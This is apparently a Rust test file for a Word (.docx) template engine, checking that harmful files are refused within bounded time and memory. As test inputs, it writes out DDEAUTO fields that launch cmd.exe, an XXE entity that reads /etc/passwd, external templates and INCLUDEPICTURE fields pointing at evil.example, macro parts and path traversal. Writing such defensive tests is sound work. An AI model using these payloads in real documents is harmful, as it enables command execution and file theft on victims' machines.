//! Files that would harm: refused by name, within bounded time and memory.

use super::*;

fn error(bytes: &[u8]) -> WordError {
    match WordTemplate::open(bytes) {
        Err(error) => error,
        Ok(_) => panic!("accepted"),
    }
}

#[test]
fn what_is_no_word_file() {
    assert!(matches!(error(b""), WordError::Package(_)));
    assert!(matches!(error(b"<html>"), WordError::Package(_)));
    let mut package = Package::default();
    package.parts.insert("a.txt".into(), b"x".to_vec());
    assert!(matches!(error(&package.write().unwrap()), WordError::NotWord(_)));
    let sheet = TYPES.replace("wordprocessingml.document.main", "spreadsheetml.sheet.main");
    package.parts.insert("[Content_Types].xml".into(), sheet.into_bytes());
    assert_eq!(error(&package.write().unwrap()), WordError::NotWord("spreadsheetml".to_owned()));
}

#[test]
fn macros_and_what_is_fetched_from_elsewhere() {
    let types = TYPES.replace("</Types>", "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>");
    let bytes = file_with(&p(&["x"]), &[("[Content_Types].xml", &types), ("word/vbaProject.bin", "x")]);
    assert!(matches!(error(&bytes), WordError::Active { .. }));
    let relation = |kind: &str| {
        format!(
            "<Relationships xmlns=\"r\"><Relationship Id=\"rId1\" Type=\"http://x/{kind}\" Target=\"http://evil.example/x\" TargetMode=\"External\"/></Relationships>"
        )
    };
    for kind in ["attachedTemplate", "image", "oleObject", "subDocument", "frame"] {
        let bytes = file_with(&p(&["x"]), &[("word/_rels/document.xml.rels", &relation(kind))]);
        assert!(matches!(error(&bytes), WordError::Active { .. }), "{kind}");
    }
    let bytes = file_with(&p(&["x"]), &[("word/_rels/document.xml.rels", &relation("hyperlink"))]);
    assert!(WordTemplate::open(&bytes).is_ok());
}

#[test]
fn entities_and_torn_xml() {
    let bomb = "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><w:document><w:body>&a;</w:body></w:document>";
    let bytes = file_with("", &[("word/document.xml", bomb)]);
    assert!(matches!(error(&bytes), WordError::Xml { .. }));
    let bytes = file_with("", &[("word/document.xml", "<w:document><w:body>")]);
    assert!(matches!(error(&bytes), WordError::Xml { .. }));
}

#[test]
fn ten_thousand_loops_in_each_other() {
    let text = p(&[&format!("{}x{}", "{% for a in x %}".repeat(10_000), "{% endfor %}".repeat(10_000))]);
    assert!(matches!(error(&file(&text)), WordError::Tags(_)));
}

/// A loop in a paragraph of its own each, blocks in each other in rows, and so with data to look for fields in.
#[test]
fn ten_thousand_blocks_in_each_other_are_refused_within_seconds() {
    let begun = std::time::Instant::now();
    let loops =
        [p(&["{%p for a in x %}"]).repeat(10_000), p(&["{{ a }}"]), p(&["{%p endfor %}"]).repeat(10_000)];
    for text in [loops.concat(), p(&["{% if a %}"]).repeat(10_000), p(&["{% with a = 1 %}"]).repeat(10_000)] {
        let found = examined(&file(&text), &json!({"x": [1], "a": 2}));
        assert!(
            found.iter().any(|p| p.trouble.to_string().contains("more than 100 blocks")),
            "{:?}",
            found[0]
        );
        assert!(matches!(error(&file(&text)), WordError::Tags(_)));
    }
    assert!(begun.elapsed().as_secs() < 60, "{:?}", begun.elapsed());
}

/// A document with macros under another name, and one whose parts lead out of the file.
#[test]
fn macros_by_content_and_parts_that_lead_out() {
    let types = TYPES.replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "vnd.ms-word.document.macroEnabled.main+xml",
    );
    assert!(matches!(error(&file_with("", &[("[Content_Types].xml", &types)])), WordError::Active { .. }));
    assert!(matches!(error(&file_with("", &[("../evil.xml", "<a/>")])), WordError::Package(_)));
}

#[test]
fn fields_that_start_programs_or_read_files() {
    let simple = |code: &str| {
        format!("<w:p><w:fldSimple w:instr=\"{code}\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>")
    };
    let split = |code: [&str; 2]| {
        let [a, b] = code.map(|part| format!("<w:r><w:instrText>{part}</w:instrText></w:r>"));
        format!("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{a}{b}</w:p>")
    };
    let mark = |of: &str| format!("<w:r><w:fldChar w:fldCharType=\"{of}\"/></w:r>");
    let code = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
    let nested = |inner: &str, outer: &str| {
        let inner = format!("{}{}{}", mark("begin"), code(inner), mark("end"));
        format!("<w:p>{}{inner}{}{}</w:p>", mark("begin"), code(outer), mark("end"))
    };
    for text in [
        simple("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        simple(" includetext http://evil.example/x "),
        split([" DDE", "AUTO cmd"]),
        split(["INCLUDE", "PICTURE http://evil.example/x.png"]),
        simple("RD c:\\\\other.docx"),
        // A name that another field makes: { {QUOTE 68 68 69} c:\\x }.
        nested("QUOTE 68 68 69", " c:\\\\x"),
        nested("PAGE", " DDEAUTO cmd"),
    ] {
        assert!(matches!(error(&file(&text)), WordError::Active { .. }), "{text}");
    }
    // A field in the words of another is Word's everyday: { IF {PAGE} = 1 a b }.
    let inner = format!("{}{}{}", mark("begin"), code("PAGE"), mark("end"));
    let condition =
        format!("<w:p>{}{}{inner}{}{}</w:p>", mark("begin"), code("IF "), code(" = 1 a b"), mark("end"));
    for text in [simple("PAGE"), split([" NUM", "PAGES "]), simple("DATE \\@ yyyy"), condition] {
        assert!(WordTemplate::open(&file(&text)).is_ok(), "{text}");
    }
}

/// Chains that the engine follows by calling itself: refused before it does, within bounded time, whatever else is there.
#[test]
fn tags_that_nest_deeper_than_any_stack_are_refused() {
    let begun = std::time::Instant::now();
    for code in [
        "1+".repeat(50_000) + "1",
        format!("title{}", "|upper".repeat(20_000)),
        format!("title{}", ".a".repeat(50_000)),
        format!("title{}", "[0]".repeat(50_000)),
        "not ".repeat(50_000) + "title",
        "-".repeat(50_000) + "1",
        "a if b else ".repeat(20_000) + "c",
    ] {
        let text = p(&[&format!("{{{{ {code} }}}}{{{{ titel }}}}")]);
        let found = examined(&file(&text), &json!({"title": "x"}));
        let told: Vec<String> = found.iter().map(|p| p.trouble.to_string()).collect();
        assert!(told[0].contains("2000 allowed") && told[1].contains("titel"), "{told:?}");
        assert!(found.iter().all(|p| p.tag.chars().count() <= 300 && p.paragraph.chars().count() <= 2_000));
        assert!(matches!(error(&file(&text)), WordError::Tags(_)));
    }
    // As long as they may be, they do not overflow the stack of a thread.
    for code in ["-".repeat(1_999) + "1", format!("title{}", "|upper".repeat(330)), "1+".repeat(999) + "1"] {
        let text = p(&[&format!("{{{{ {code} }}}}")]);
        let _ = examined(&file(&text), &json!({"title": "x"}));
        let _ = WordTemplate::open(&file(&text)).map(|t| t.render(&json!({"title": "x"})));
    }
    for clumsy in ["｛｛", "}}", "{ ", "%}"] {
        let found = examined(&file(&p(&[&clumsy.repeat(50_000)])), &json!({}));
        assert!(!found.is_empty() && found.len() <= 21, "{clumsy}: {}", found.len());
    }
    assert!(begun.elapsed().as_secs() < 60, "{:?}", begun.elapsed());
}

#[test]
fn a_loop_without_end_stops() {
    let text = p(&["{% for a in range(9999) %}{% for b in range(9999) %}{{ b }}{% endfor %}{% endfor %}"]);
    let found = failure(&text, json!({}));
    assert!(found[0].trouble.to_string().contains("fuel"), "{found:?}");
}

/// Where the engine does not say in which loop it stopped, the last one is named; `raw` that has no end is a block.
#[test]
fn what_does_not_end_has_a_tag_and_a_paragraph() {
    let text = p(&["甲{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}"]);
    let found = failure(&text, json!({}));
    assert!(matches!(found[0].trouble, Trouble::Endless(_)), "{found:?}");
    assert!(found[0].tag.starts_with("{% for") && found[0].paragraph.starts_with("甲"), "{found:?}");
    let found = problems(&[p(&["甲{% raw %}{{ x }}"]), p(&["{{ y }}"])].concat());
    assert_eq!((found.len(), found[0].tag.as_str()), (1, "{% raw %}"));
}
